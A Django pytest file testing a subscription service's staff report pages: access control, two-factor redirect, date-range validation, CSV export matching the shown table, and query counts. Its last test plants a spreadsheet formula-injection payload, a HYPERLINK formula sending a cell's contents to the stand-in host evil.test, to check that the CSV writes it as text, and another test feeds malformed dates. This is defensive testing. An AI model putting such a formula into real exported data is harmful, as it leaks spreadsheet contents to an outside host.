"""The report pages: who may open them, the date range, the table, its CSV and their cost."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from conftest import make_subscriber, sign_in_with_two_factor
from plugline.billing.models import PaymentKind, PaymentStatus, PeriodSource, RenewalAttempt
from plugline.reports.catalog import REPORTS
from plugline.reports.tests import history as h
from plugline.reports.tests.history import WEEK_1, WEEK_2, at
from plugline.reup.models import ReupBatch, ReupCard, ReupCardStatus
from plugline.stores.models import RetailChain

pytestmark = pytest.mark.django_db

RANGE = {"start": WEEK_1.isoformat(), "end": (WEEK_2 + dt.timedelta(days=6)).isoformat()}


class _TableReader(HTMLParser):
    """The rows of the page's report table, header row first, as a reader would hear them."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self.caption = ""
        self._in_table = self._in_cell = self._in_caption = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self._in_table = True
        elif self._in_table and tag == "tr":
            self.rows.append([])
        elif self._in_table and tag in ("th", "td"):
            self._in_cell = True
            self.rows[-1].append("")
        elif self._in_table and tag == "caption":
            self._in_caption = True

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self._in_table = False
        elif tag in ("th", "td"):
            self._in_cell = False
        elif tag == "caption":
            self._in_caption = False

    def handle_data(self, data: str) -> None:
        if self._in_cell:
            self.rows[-1][-1] += data
        elif self._in_caption:
            self.caption += data


def table_of(html: str) -> _TableReader:
    reader = _TableReader()
    reader.feed(html)
    return reader


def some_history() -> None:
    """A little of everything, in the two weeks of RANGE."""
    year = h.plan()
    for days, kind in [(0, PaymentKind.CHECKOUT), (1, PaymentKind.AUTORENEW)]:
        h.period(
            h.subscription(), source=PeriodSource.PAYMENT, starts=at(WEEK_1, days=days), kind=kind
        )
    trial = h.subscription()
    h.period(trial, source=PeriodSource.TRIAL, starts=at(WEEK_1), ends=at(WEEK_1, days=3))
    RenewalAttempt.objects.create(
        subscription=h.subscription(), period_end=at(WEEK_2), status="succeeded"
    )
    h.payment(
        created=at(WEEK_2),
        kind=PaymentKind.AUTORENEW,
        status=PaymentStatus.DECLINED,
        decline_code="insufficient_funds",
    )
    kroner = h.payment(created=at(WEEK_2), amount=39900, currency="DKK")
    h.item(kroner, subscription=h.subscription(), plan=year, amount=39900)
    chain = RetailChain.objects.get_or_create(code="corner", defaults={"name": "CornerMart"})[0]
    batch = ReupBatch.objects.create(chain=chain, plan=year, count=5)
    sub = h.subscription()
    ReupCard.objects.create(
        batch=batch,
        serial=f"C{ReupCard.objects.count()}",
        status=ReupCardStatus.REDEEMED,
        redeemed_at=at(WEEK_2),
        period=h.period(sub, source=PeriodSource.REUP, starts=at(WEEK_2)),
    )


def test_it_lists_the_reports(console_client: Client) -> None:
    response = console_client.get(reverse("reports:home"))

    assert response.status_code == 200
    for report in REPORTS:
        assert reverse("reports:report", args=[report.slug]) in response.content.decode()


@pytest.mark.parametrize("report", REPORTS, ids=lambda report: report.slug)
def test_it_downloads_exactly_the_table_shown(console_client: Client, report) -> None:
    some_history()

    page = console_client.get(reverse("reports:report", args=[report.slug]), RANGE)
    download = console_client.get(reverse("reports:csv", args=[report.slug]), RANGE)

    shown = table_of(page.content.decode())
    assert shown.caption
    assert len(shown.rows) > 1
    assert download.status_code == 200
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    assert list(csv.reader(io.StringIO(download.content.decode()))) == shown.rows


def test_it_shows_the_chart_data_and_the_table_together(console_client: Client) -> None:
    some_history()

    page = console_client.get(reverse("reports:report", args=["renewals"]), RANGE).content.decode()

    found = re.search(
        r'<script id="report-chart-data-1" type="application/json">(.*?)</script>', page
    )
    assert found is not None
    data = json.loads(found[1])
    assert data["labels"] == ["Mar 3, 2025", "Mar 10, 2025"]
    assert data["datasets"][0] == {"label": "Online", "data": [1, 1]}
    assert table_of(page).rows[1] == ["Mar 3, 2025", "1", "1", "0", "2"]
    assert 'aria-hidden="true"' in page
    assert "<script>" not in page  # nothing inline: the CSP forbids it


def test_it_shows_the_last_twelve_weeks_by_default(console_client: Client) -> None:
    page = console_client.get(reverse("reports:report", args=["renewals"])).content.decode()

    assert len(table_of(page).rows) == 1 + 12


@pytest.mark.parametrize(
    ("given", "message"),
    [
        (
            {"start": "2025-03-10", "end": "2025-03-01"},
            "The last day must not come before the first day.",
        ),
        ({"start": "2020-01-01", "end": "2025-03-01"}, "A report covers at most 106 weeks"),
        ({"start": "yesterday", "end": "2025-03-01"}, "Enter the first day as a date"),
        ({"start": "2025-03-01", "end": ""}, "This field is required."),
    ],
)
def test_it_refuses_a_date_range_it_cannot_show(console_client: Client, given, message) -> None:
    page = console_client.get(reverse("reports:report", args=["revenue"]), given)
    download = console_client.get(reverse("reports:csv", args=["revenue"]), given)

    assert page.status_code == 200
    assert message in page.content.decode()
    assert "<table" not in page.content.decode()
    assert download.status_code == 400
    assert message in download.content.decode()


# Dates that break naive date arithmetic or parsing: the ends of the calendar, numbers,
# a NUL byte, a very long string.
NASTY_DAYS = [
    {"start": "9999-12-25", "end": "9999-12-31"},
    {"start": "0001-01-01", "end": "0001-01-10"},
    {"start": "1999-12-31", "end": "2000-01-06"},
    {"start": "2099-12-28", "end": "2100-01-03"},
    {"start": "sNaN", "end": "2025-03-01"},
    {"start": "2025-03-01", "end": "1e999999999"},
    {"start": "-1", "end": "0x10"},
    {"start": "2025-03-01\x00", "end": "2025-03-07"},
    {"start": "9" * 10_000, "end": "2025-03-07"},
]


@pytest.mark.parametrize("report", [r for r in REPORTS if r.dated], ids=lambda r: r.slug)
def test_it_answers_a_form_error_never_a_500_for_days_it_cannot_read(
    console_client: Client, report
) -> None:
    for given in NASTY_DAYS:
        label = f"{report.slug} {given['start'][:12]!r}..{given['end'][:12]!r}"
        page = console_client.get(reverse("reports:report", args=[report.slug]), given)
        download = console_client.get(reverse("reports:csv", args=[report.slug]), given)

        assert page.status_code == 200, label
        assert page.context["form"].errors, label
        assert "<table" not in page.content.decode(), label
        assert download.status_code == 400, label
        assert download.content.decode().startswith("This date range cannot be downloaded"), label


def test_it_says_which_days_a_report_can_be_read_for(console_client: Client) -> None:
    page = console_client.get(
        reverse("reports:report", args=["renewals"]), {"start": "9999-12-25", "end": "9999-12-31"}
    ).content.decode()

    assert "Ensure this value is less than or equal to 2099-12-31." in page


def test_it_shows_the_report_in_french(console_client: Client, staff) -> None:
    staff.language = "fr"
    staff.save()
    some_history()

    page = console_client.get(reverse("reports:report", args=["revenue"]), RANGE)

    rows = table_of(page.content.decode()).rows
    assert rows[0] == ["Semaine", "Forfait", "Devise", "Payé", "Remboursé", "Net"]
    assert rows[-1][0] == "10 mars 2025"
    assert rows[-1][3] == "399,00\xa0DKK"


def test_it_refuses_staff_without_the_reports_permission(client: Client) -> None:
    agent = make_subscriber("agent@example.com", numbers=()).user
    agent.is_staff = True
    agent.save()
    sign_in_with_two_factor(client, agent)

    for name, args in [
        ("reports:home", []),
        ("reports:report", ["revenue"]),
        ("reports:csv", ["revenue"]),
    ]:
        assert client.get(reverse(name, args=args)).status_code == 403

    agent.user_permissions.add(Permission.objects.get(codename="view_reports"))
    assert client.get(reverse("reports:report", args=["revenue"])).status_code == 200


def test_it_sends_staff_without_two_factor_to_turn_it_on(client: Client) -> None:
    manager = make_subscriber("manager@example.com", numbers=()).user
    manager.is_staff = manager.is_superuser = True
    manager.save()
    client.force_login(manager)

    response = client.get(reverse("reports:report", args=["revenue"]))

    assert response.status_code == 302
    assert response["Location"] == reverse("mfa_activate_totp")


def test_it_refuses_subscribers(client: Client) -> None:
    subscriber = make_subscriber("sub@example.com", numbers=()).user
    client.force_login(subscriber)

    assert client.get(reverse("reports:home")).status_code == 403


def test_it_answers_404_for_a_report_that_does_not_exist(console_client: Client) -> None:
    assert console_client.get(reverse("reports:report", args=["nothing"])).status_code == 404


@pytest.mark.parametrize("report", REPORTS, ids=lambda report: report.slug)
def test_it_reads_each_report_in_as_many_queries_whatever_the_history(
    console_client: Client, report
) -> None:
    url = reverse("reports:report", args=[report.slug])
    console_client.get(url, RANGE)  # the session and permissions, cached or not, as later
    some_history()
    with CaptureQueriesContext(connection) as few:
        console_client.get(url, RANGE)
    for _ in range(3):
        some_history()
    with CaptureQueriesContext(connection) as more:
        console_client.get(url, RANGE)

    assert len(more) == len(few)


def test_it_writes_a_name_a_spreadsheet_would_run_as_a_formula_as_text(
    console_client: Client,
) -> None:
    formula = '=HYPERLINK("https://evil.test/?"&A1,"Refund")'
    plan = h.plan("formula", name=formula)
    paid = h.payment(created=at(WEEK_1))
    h.item(paid, subscription=h.subscription(), plan=plan, amount=4999)

    page = console_client.get(reverse("reports:report", args=["revenue"]), RANGE)
    download = console_client.get(reverse("reports:csv", args=["revenue"]), RANGE)

    [shown] = [row for row in table_of(page.content.decode()).rows if formula in row]
    [written] = [
        row for row in csv.reader(io.StringIO(download.content.decode())) if row[0] == shown[0]
    ]
    # The page shows the name as typed; the CSV has it after an apostrophe, as text.
    assert written == ["'" + cell if cell == formula else cell for cell in shown]
